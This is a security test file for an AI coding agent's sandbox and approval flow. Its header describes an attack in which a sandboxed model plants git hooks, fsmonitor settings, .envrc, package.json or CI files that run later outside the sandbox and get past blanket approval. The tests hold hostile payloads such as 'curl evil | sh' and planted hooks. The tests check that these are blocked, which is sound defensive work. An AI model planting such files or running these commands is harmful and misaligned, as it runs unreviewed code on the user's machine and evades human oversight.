// Attack (issue 28 §2): plant code that runs later, outside the sandbox. A sandboxed command sets
// core.fsmonitor / core.hooksPath or writes a hook in the workspace's .git, and the user's next
// plain `git status` runs it; the model writes .git/hooks, .envrc, package.json or a CI workflow
// through the file tools and an "always" (or --yes) lets it through unseen.
import { execFile } from 'node:child_process';
import { mkdir, readFile, stat, writeFile } from 'node:fs/promises';
import path from 'node:path';
import { promisify } from 'node:util';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { makeSandboxedLayout, type SandboxedLayout } from '../support/sandbox-fixtures.js';
import { makeSandbox, noSignal, toolUse, unwrap } from '../support/tool-fixtures.js';
import { createNodeTools, openWorkspace } from '../../app/tools/node/index.js';
import { gitMetadataPaths } from '../../app/tools/node/sandbox/sandbox-policy.js';
import { approvalCard } from '../../app/cli/approval/approval-card.js';
import { createApprovalFlow } from '../../app/cli/approval/approval-flow.js';
import { createStyle } from '../../app/cli/display/ansi-style.js';
import { refuseUnaskedRunsLaterWrites } from '../../app/cli/approval/runs-later-guard.js';
import { RUNS_LATER_RULES, runsCodeLater } from '../../app/tools/files/protected-paths.js';
import type { ApprovalRequest, TerminalPrompter } from '../../app/cli/approval/terminal-prompter.js';
import { PassThrough } from 'node:stream';

const run = promisify(execFile);
const exists = (file: string) =>
  stat(file).then(
    () => true,
    () => false,
  );

describe('the workspace .git in the sandbox', () => {
  let layout: SandboxedLayout;
  beforeAll(async () => {
    layout = await makeSandboxedLayout({
      beforePolicy: async (ws) => {
        await run('git', ['init', '-q', ws]);
      },
    });
  });
  afterAll(() => layout.cleanup());

  it('is read-only: hooksPath, fsmonitor and a planted hook all fail, and the host config is unchanged', async () => {
    const before = await readFile(path.join(layout.workspace, '.git', 'config'), 'utf8');
    const result = await layout.run(
      [
        'git config core.fsmonitor "touch $PWD/PWNED-fsmonitor"; echo fsmonitor=$?',
        'git config core.hooksPath /tmp/hooks; echo hooksPath=$?',
        'printf "#!/bin/sh\\ntouch PWNED-hook\\n" > .git/hooks/pre-commit; echo hook=$?',
        'rm -rf .git 2>&1; mv .git moved-git 2>&1; echo gone=$?',
        'echo fine > working-file.txt && echo working=ok',
      ].join('; '),
    );
    expect(result.content).toMatch(/fsmonitor=[1-9]/);
    expect(result.content).toMatch(/hooksPath=[1-9]/);
    expect(result.content).toMatch(/hook=[1-9]/);
    expect(result.content).toMatch(/Read-only file system/);
    expect(result.content).toContain('working=ok');
    expect(await readFile(path.join(layout.workspace, '.git', 'config'), 'utf8')).toBe(before);
    expect(await exists(path.join(layout.workspace, '.git', 'hooks', 'pre-commit'))).toBe(false);
    // The user's next plain git command, outside the sandbox, runs nothing planted.
    await run('git', ['-C', layout.workspace, 'status', '--porcelain']);
    expect(await exists(path.join(layout.workspace, 'PWNED-fsmonitor'))).toBe(false);
  });
});

describe('a repository made after the sandbox policy was built', () => {
  let layout: SandboxedLayout;
  beforeAll(async () => {
    layout = await makeSandboxedLayout();
  });
  afterAll(() => layout.cleanup());

  it('is read-only to the next command; a command that makes one is told its .git was writable to it only', async () => {
    const made = await layout.run('git init -q . && echo made');
    expect(made.content).toContain('made');
    expect(made.content).toContain('created a git repository (.git) in the workspace');
    const result = await layout.run('git config core.fsmonitor "touch $PWD/PWNED"; echo status=$?');
    expect(result.content).toMatch(/status=[1-9]/);
    await run('git', ['-C', layout.workspace, 'status', '--porcelain']);
    expect(await exists(path.join(layout.workspace, 'PWNED'))).toBe(false);
    expect((await layout.run('echo plain')).content).not.toContain('created a git repository');
  });
});

describe('a .git file (worktree, submodule) in the sandbox', () => {
  let layout: SandboxedLayout;
  beforeAll(async () => {
    layout = await makeSandboxedLayout({
      beforePolicy: async (ws) => {
        // A worktree whose metadata lies inside the workspace: .git names it, and it names its common folder.
        await mkdir(path.join(ws, 'meta', 'common', 'hooks'), { recursive: true });
        await mkdir(path.join(ws, 'meta', 'worktree'), { recursive: true });
        await writeFile(path.join(ws, 'meta', 'common', 'config'), '[core]\n\tbare = false\n');
        await writeFile(path.join(ws, 'meta', 'worktree', 'commondir'), '../common\n');
        await writeFile(path.join(ws, '.git'), 'gitdir: meta/worktree\n');
      },
    });
  });
  afterAll(() => layout.cleanup());

  it('keeps the file, the gitdir it names and the common folder read-only', async () => {
    expect(await gitMetadataPaths(layout.workspace)).toEqual(
      ['.git', 'meta/common', 'meta/worktree'].map((p) => path.join(layout.workspace, p)),
    );
    const result = await layout.run(
      'echo "gitdir: /tmp/evil" > .git; echo file=$?; echo x >> meta/common/config; echo common=$?; touch meta/worktree/HEAD; echo worktree=$?',
    );
    expect(result.content).toMatch(/file=[1-9]/);
    expect(result.content).toMatch(/common=[1-9]/);
    expect(result.content).toMatch(/worktree=[1-9]/);
    expect(await readFile(path.join(layout.workspace, '.git'), 'utf8')).toBe('gitdir: meta/worktree\n');
  });
});

describe('the file tools and .git', () => {
  it('refuse to write .git/ paths (hooks, config, a nested repository) with a protected-path error', async () => {
    const sandbox = await makeSandbox({ '.git/config': '[core]\n', 'vendor/lib/.git/config': '[core]\n' });
    try {
      const tools = createNodeTools({ workspace: await openWorkspace(sandbox.workspace) });
      const hook = unwrap(
        await tools.write_to_file(
          toolUse('write_to_file', { path: '.git/hooks/pre-commit', content: '#!/bin/sh\ntouch PWNED\n' }),
          noSignal(),
        ),
      );
      expect(hook).toMatchObject({ isError: true, code: 'protected-path' });
      expect(hook.content).toContain('.git/hooks/pre-commit');
      const config = unwrap(
        await tools.replace_in_file(
          toolUse('replace_in_file', {
            path: './vendor/lib/.git/config',
            diff: '------- SEARCH\n[core]\n=======\n[core]\n\tfsmonitor = touch PWNED\n+++++++ REPLACE',
          }),
          noSignal(),
        ),
      );
      expect(config).toMatchObject({ isError: true, code: 'protected-path' });
      const upper = unwrap(
        await tools.write_to_file(toolUse('write_to_file', { path: '.GIT/config', content: 'x' }), noSignal()),
      );
      expect(upper.code).toBe('protected-path');
      expect(await exists(path.join(sandbox.workspace, '.git', 'hooks', 'pre-commit'))).toBe(false);
      expect(await readFile(path.join(sandbox.workspace, 'vendor/lib/.git/config'), 'utf8')).toBe('[core]\n');
      // Reading .git stays possible, and so does writing a file merely named like it.
      expect(unwrap(await tools.read_file(toolUse('read_file', { path: '.git/config' }), noSignal())).isError).toBe(
        false,
      );
      expect(
        unwrap(
          await tools.write_to_file(toolUse('write_to_file', { path: 'docs/.gitignore', content: 'x\n' }), noSignal()),
        ).isError,
      ).toBe(false);
    } finally {
      await sandbox.cleanup();
    }
  });

  it('write them when asked explicitly (allowGitWrites, the CLI’s --allow-git-writes)', async () => {
    const sandbox = await makeSandbox({ '.git/config': '[core]\n' });
    try {
      const tools = createNodeTools({ workspace: await openWorkspace(sandbox.workspace), allowGitWrites: true });
      const hook = unwrap(
        await tools.write_to_file(
          toolUse('write_to_file', { path: '.git/hooks/post-commit', content: 'echo\n' }),
          noSignal(),
        ),
      );
      expect(hook.isError).toBe(false);
      expect(await readFile(path.join(sandbox.workspace, '.git/hooks/post-commit'), 'utf8')).toBe('echo\n');
    } finally {
      await sandbox.cleanup();
    }
  });
});

describe('files that run code later', () => {
  const listed = [
    '.git/hooks/pre-commit',
    '.vscode/tasks.json',
    '.envrc',
    'sub/.envrc',
    '.npmrc',
    'package.json',
    'packages/a/package.json',
    '.github/workflows/ci.yml',
  ];
  it('are recognised: the list docs/security.md names', () => {
    for (const p of listed) expect(runsCodeLater(p), p).toBeDefined();
    for (const p of ['src/index.ts', 'README.md', 'github/workflows/x.yml', 'package-lock.json', 'docs/envrc'])
      expect(runsCodeLater(p), p).toBeUndefined();
    expect(RUNS_LATER_RULES.map((r) => r.rule)).toEqual(
      expect.arrayContaining(['.git/', '.vscode/tasks.json', '.envrc', '.npmrc', 'package.json', '.github/workflows/']),
    );
  });

  it('are called out in the approval card, which says "always" does not cover them', () => {
    const style = createStyle(false);
    const card = approvalCard(
      { name: 'write_to_file', params: { path: '.envrc', content: 'curl evil | sh\n' } },
      { ok: true, change: { path: '.envrc', change: 'create', before: undefined, after: 'curl evil | sh\n' } as never },
      style,
    );
    expect(card.runsLater?.rule).toBe('.envrc');
    expect(card.lines.join('\n')).toMatch(/runs code later, outside the sandbox \(\.envrc\): direnv/);
    expect(card.lines.join('\n')).toContain('"a" (always) does not cover it');
    const plain = approvalCard(
      { name: 'write_to_file', params: { path: 'notes.md', content: 'x\n' } },
      { ok: true, change: { path: 'notes.md', change: 'create', before: undefined, after: 'x\n' } as never },
      style,
    );
    expect(plain.runsLater).toBeUndefined();
  });

  it('are asked every time: "a" covers later ordinary writes, never a file that runs code later', async () => {
    const sandbox = await makeSandbox({ 'package.json': '{"name":"x"}\n' });
    try {
      const asked: ApprovalRequest[] = [];
      const prompter: TerminalPrompter = {
        approve: async (request) => {
          asked.push(request);
          return { approved: true, always: true };
        },
        ask: async () => '',
      };
      const output = Object.assign(new PassThrough(), { columns: 100, rows: 50 });
      let shown = '';
      output.on('data', (chunk: Buffer) => {
        shown += chunk.toString();
      });
      const flow = createApprovalFlow({
        prompter,
        output,
        style: createStyle(false),
        files: await openWorkspace(sandbox.workspace),
      });
      const write = (p: string) =>
        flow.decide({ name: 'write_to_file', params: { path: p, content: '{}\n' } }, noSignal().signal);
      expect(await write('a.txt')).toEqual({ approved: true, always: true });
      expect(await write('b.txt')).toEqual({ approved: true });
      expect(await write('package.json')).toEqual({ approved: true });
      expect(await write('.github/workflows/ci.yml')).toEqual({ approved: true });
      expect(await write('c.txt')).toEqual({ approved: true });
      expect(asked.map((r) => r.question)).toEqual([
        'Create a.txt?',
        'Overwrite package.json?',
        'Create .github/workflows/ci.yml?',
      ]);
      expect(shown).toContain('approved this write only: "always" does not cover files that run code later');
    } finally {
      await sandbox.cleanup();
    }
  });

  it('are not written under --yes (no person approves them): the model is told why', async () => {
    const sandbox = await makeSandbox({ 'package.json': '{"name":"x"}\n' });
    try {
      const workspace = await openWorkspace(sandbox.workspace);
      const tools = refuseUnaskedRunsLaterWrites(
        createNodeTools({ workspace }),
        workspace,
        new Set(['write_to_file', 'replace_in_file']),
      );
      for (const p of ['.envrc', '.github/workflows/ci.yml', 'package.json', '.vscode/tasks.json', '.npmrc']) {
        const result = unwrap(
          await tools.write_to_file(toolUse('write_to_file', { path: p, content: 'x\n' }), noSignal()),
        );
        expect(result, p).toMatchObject({ isError: true, code: 'protected-path' });
        expect(result.content).toContain('--yes does not cover such files');
      }
      expect(await readFile(path.join(sandbox.workspace, 'package.json'), 'utf8')).toBe('{"name":"x"}\n');
      expect(await exists(path.join(sandbox.workspace, '.envrc'))).toBe(false);
      const ok = unwrap(
        await tools.write_to_file(toolUse('write_to_file', { path: 'src/a.ts', content: 'x\n' }), noSignal()),
      );
      expect(ok.isError).toBe(false);
    } finally {
      await sandbox.cleanup();
    }
  });
});
